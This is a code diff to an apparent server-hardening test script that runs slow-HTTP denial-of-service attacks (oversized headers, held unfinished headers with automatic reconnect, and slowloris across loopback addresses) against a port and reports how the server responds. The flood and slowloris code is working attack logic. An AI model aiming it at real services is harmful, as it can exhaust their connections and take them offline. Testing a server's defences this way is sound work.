@@ -9,7 +9,9 @@ it however it ends. It prints one JSON object (its figures) on stdout.
   sends, as curl and browsers do; it reports the status it got, how long after the first byte,
   and how much it had sent by then.
 - `held-heads`: CLIENTS clients each send SIZE bytes of a header line that never ends, then
-  hold the connection; reports what each was answered and when the server closed it.
+  hold the connection; with --again, each one closed by the server comes back at once with
+  another, for the whole HOLD_S; reports what each connection was answered and when the
+  server closed it.
 - `slowloris`: CONNECTIONS connections, spread over SOURCES loopback addresses, each send a
   request line and one header, then one more header line every TRICKLE_S seconds and never the
   blank line that ends the head; reports when the server closed each one.
@@ -119,43 +121,53 @@ def send_some(conn: Conn, now: float) -> None:
     conn.to_send -= sent
 
 
-def pump(conns: list[Conn], until: float, keep_sending_after_answer: bool) -> None:
-    """Send filler and read answers on every connection until all are closed or `until`."""
-    selector = selectors.DefaultSelector()
-    registered: dict[int, int] = {}
-    try:
-        while time.monotonic() < until:
-            live = [c for c in conns if c.closed_at is None]
-            if not live:
-                return
-            for conn in live:
-                stop = conn.answered_at is not None and not keep_sending_after_answer
-                if stop:
-                    conn.to_send = 0
-                wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if conn.to_send else 0)
-                fd = conn.sock.fileno()
-                if fd not in registered:
-                    selector.register(conn.sock, wanted, conn)
-                elif registered[fd] != wanted:
-                    selector.modify(conn.sock, wanted, conn)
-                registered[fd] = wanted
-            for key, events in selector.select(timeout=0.05):
+class Swarm:
+    """Attacking connections on one selector: each sends its filler, reads what it is
+    answered, and notices when the server closes it."""
+
+    def __init__(self, keep_sending_after_answer: bool) -> None:
+        self.selector = selectors.DefaultSelector()
+        self.keep_sending_after_answer = keep_sending_after_answer
+        self.conns: list[Conn] = []
+        self.live = 0
+
+    def add(self, conn: Conn) -> None:
+        self.conns.append(conn)
+        self.live += 1
+        self.selector.register(conn.sock, self._events(conn), conn)
+
+    def _events(self, conn: Conn) -> int:
+        return selectors.EVENT_READ | (selectors.EVENT_WRITE if conn.to_send else 0)
+
+    def run(self, until: float) -> None:
+        """Until every connection is closed or `until` (time.monotonic())."""
+        while self.live and (left := until - time.monotonic()) > 0:
+            self.step(min(left, 0.05))
+
+    def step(self, timeout_s: float) -> None:
+        """Handle what is ready now, waiting at most `timeout_s` for something to be."""
+        if self.live:
+            for key, events in self.selector.select(timeout=timeout_s):
                 conn, now = key.data, time.monotonic()
                 if events & selectors.EVENT_READ:
                     read_some(conn, now)
                 if events & selectors.EVENT_WRITE and conn.closed_at is None:
                     send_some(conn, now)
                 if conn.closed_at is not None:
-                    selector.unregister(conn.sock)
-                    registered.pop(key.fd, None)
-    finally:
-        selector.close()
+                    self.selector.unregister(conn.sock)
+                    conn.sock.close()
+                    self.live -= 1
+                    continue
+                if conn.answered_at is not None and not self.keep_sending_after_answer:
+                    conn.to_send = 0
+                if self._events(conn) != key.events:
+                    self.selector.modify(conn.sock, self._events(conn), conn)
 
-
-def close_all(conns: list[Conn]) -> None:
-    for conn in conns:
-        with contextlib.suppress(OSError):
-            conn.sock.close()
+    def close(self) -> None:
+        self.selector.close()
+        for conn in self.conns:
+            with contextlib.suppress(OSError):
+                conn.sock.close()
 
 
 @dataclass
@@ -165,6 +177,7 @@ class Figures:
     connect_failures: int = 0
     statuses: dict[str, int] = field(default_factory=dict)  # "none": closed without an answer
     closed_by_server: int = 0
+    closed_without_answer: int = 0
     still_open_at_end: int = 0
     seconds_to_answer: list[float] = field(default_factory=list)
     seconds_to_close: list[float] = field(default_factory=list)  # from each one's connect
@@ -179,6 +192,7 @@ def summarise(kind: str, conns: list[Conn], failures: int, started: float) -> Fi
     figures.statuses = dict(Counter(str(c.status or "none") for c in conns))
     closed = [c for c in conns if c.closed_at is not None]
     figures.closed_by_server = len(closed)
+    figures.closed_without_answer = sum(c.status is None for c in closed)
     figures.still_open_at_end = len(conns) - len(closed)
     figures.seconds_to_close = sorted(round(c.closed_at - c.opened, 3) for c in closed)
     answered = [c for c in conns if c.answered_at is not None]
@@ -193,36 +207,46 @@ def summarise(kind: str, conns: list[Conn], failures: int, started: float) -> Fi
 
 def big_head(port: int, size: int, where: str, limit_s: float) -> Figures:
     started = time.monotonic()
-    sock = connect(port, source_address(0))
-    conn = Conn(sock, time.monotonic())
+    swarm = Swarm(keep_sending_after_answer=False)
     try:
+        sock = connect(port, source_address(0))
         sock.sendall(BIG_PREFIXES[where])
-        conn.to_send = size
-        pump([conn], started + limit_s, keep_sending_after_answer=False)
+        swarm.add(Conn(sock, time.monotonic(), to_send=size))
+        swarm.run(started + limit_s)
     finally:
-        close_all([conn])
-    return summarise("big-head", [conn], 0, started)
+        swarm.close()
+    return summarise("big-head", swarm.conns, 0, started)
 
 
-def held_heads(port: int, clients: int, size: int, hold_s: float) -> Figures:
+def held_heads(port: int, clients: int, size: int, hold_s: float, again: bool) -> Figures:
     started = time.monotonic()
-    conns: list[Conn] = []
+    until = started + hold_s
+    # They keep sending whatever they are told: an attacker does not read.
+    swarm = Swarm(keep_sending_after_answer=True)
+
+    def start(index: int) -> Conn:
+        sock = connect(port, source_address(index))
+        sock.send(HEAD_START + b"X-Held: ")
+        conn = Conn(sock, time.monotonic(), to_send=size)
+        swarm.add(conn)
+        return conn
+
     try:
-        for index in range(clients):
-            sock = connect(port, source_address(index))
-            sock.send(HEAD_START + b"X-Held: ")
-            conns.append(Conn(sock, time.monotonic(), to_send=size))
-        # They keep sending whatever they are told: an attacker does not read.
-        pump(conns, started + hold_s, keep_sending_after_answer=True)
+        active = [start(index) for index in range(clients)]
+        while (now := time.monotonic()) < until and (again or swarm.live):
+            swarm.run(min(until, now + 0.05))
+            for index, conn in enumerate(active):
+                if again and conn.closed_at is not None and time.monotonic() < until:
+                    active[index] = start(index)  # back with another unfinished header
     finally:
-        close_all(conns)
-    return summarise("held-heads", conns, 0, started)
+        swarm.close()
+    return summarise("held-heads", swarm.conns, 0, started)
 
 
 def slowloris(port: int, connections: int, sources: int, trickle_s: float, hold_s: float):
     raise_file_limit(connections + 64)
     started = time.monotonic()
-    conns: list[Conn] = []
+    swarm = Swarm(keep_sending_after_answer=False)
     failures = 0
     try:
         for index in range(connections):
@@ -233,14 +257,16 @@ def slowloris(port: int, connections: int, sources: int, trickle_s: float, hold_
                 failures += 1
                 continue
             now = time.monotonic()
-            conns.append(Conn(sock, now, last_trickle=now))
+            swarm.add(Conn(sock, now, last_trickle=now))
+            if index % 50 == 0:
+                swarm.step(0)  # notice closes while still connecting
         deadline = started + hold_s
-        while time.monotonic() < deadline and any(c.closed_at is None for c in conns):
-            pump(conns, min(deadline, time.monotonic() + trickle_s / 4), True)
-            trickle(conns, trickle_s)
+        while swarm.live and (now := time.monotonic()) < deadline:
+            swarm.run(min(deadline, now + trickle_s / 4))
+            trickle(swarm.conns, trickle_s)
     finally:
-        close_all(conns)
-    return summarise("slowloris", conns, failures, started)
+        swarm.close()
+    return summarise("slowloris", swarm.conns, failures, started)
 
 
 def trickle(conns: list[Conn], every_s: float) -> None:
@@ -263,12 +289,13 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--connections", type=int, default=5000)
     parser.add_argument("--sources", type=int, default=1, help="loopback addresses to use")
     parser.add_argument("--trickle-s", type=float, default=2.0)
+    parser.add_argument("--again", action="store_true", help="held-heads: reconnect when closed")
     parser.add_argument("--hold-s", type=float, default=10.0, help="the attack's time limit")
     args = parser.parse_args(argv)
     if args.kind == "big-head":
         figures = big_head(args.port, args.size, args.where, args.hold_s)
     elif args.kind == "held-heads":
-        figures = held_heads(args.port, args.clients, args.size, args.hold_s)
+        figures = held_heads(args.port, args.clients, args.size, args.hold_s, args.again)
     else:
         figures = slowloris(args.port, args.connections, args.sources, args.trickle_s, args.hold_s)
     json.dump(asdict(figures), sys.stdout)
